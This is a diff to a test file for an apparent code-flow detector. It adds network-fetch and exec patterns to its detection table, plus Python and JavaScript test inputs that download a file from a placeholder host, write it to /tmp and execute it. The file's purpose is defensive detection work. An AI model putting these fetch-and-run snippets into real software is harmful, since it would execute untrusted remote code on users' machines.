@@ -10,6 +10,7 @@ const stores = {
     { pattern: 'pathlib.Path.*(*secret*)', tag: 'file' },
     { pattern: 'curl', tag: 'remote' },
     { pattern: 'fetch', tag: 'remote' },
+    { pattern: 'requests.get', tag: 'remote' },
     { pattern: 'cp(*secret*)', tag: 'file' },
   ],
   sinks: [
@@ -18,6 +19,8 @@ const stores = {
     { pattern: 'curl', tag: 'net' },
     { pattern: 'import', tag: 'exec' },
     { pattern: 'bash', tag: 'exec' },
+    { pattern: 'subprocess.run', tag: 'exec' },
+    { pattern: 'child_process.execFile', tag: 'exec' },
     { pattern: 'sh', tag: 'exec' },
     { pattern: 'importlib.util.spec_from_file_location', tag: 'exec' },
     { pattern: 'importlib.import_module', tag: 'exec' },
@@ -25,6 +28,24 @@ const stores = {
 }
 
 it.each([
+  [
+    'a program that is written to an open file',
+    'a.py',
+    'import requests, subprocess\nwith open("/tmp/u", "wb") as f:\n    f.write(requests.get("https://a.example").content)\nsubprocess.run(["/tmp/u"])',
+    'requests.get(https://a.example) -> subprocess.run via a.py:3 a.py:4',
+  ],
+  [
+    'a script of an interpreter that is not known',
+    'a.py',
+    'import requests, subprocess, sys\nopen("/tmp/u.py", "w").write(requests.get("https://a.example").text)\nsubprocess.run([sys.executable, "/tmp/u.py"])',
+    'requests.get(https://a.example) -> subprocess.run via a.py:2 a.py:3',
+  ],
+  [
+    'a program that a stream is piped into',
+    'a.js',
+    'import fs from "fs"\nimport { execFile } from "child_process"\nconst r = await fetch("https://a.example")\nconst w = fs.createWriteStream("/tmp/u")\nr.body.pipe(w)\nexecFile("/tmp/u")',
+    'fetch(https://a.example) -> child_process.execFile via a.js:3 a.js:5 a.js:6',
+  ],
   [
     'a program that a group of commands writes line by line',
     'a.sh',
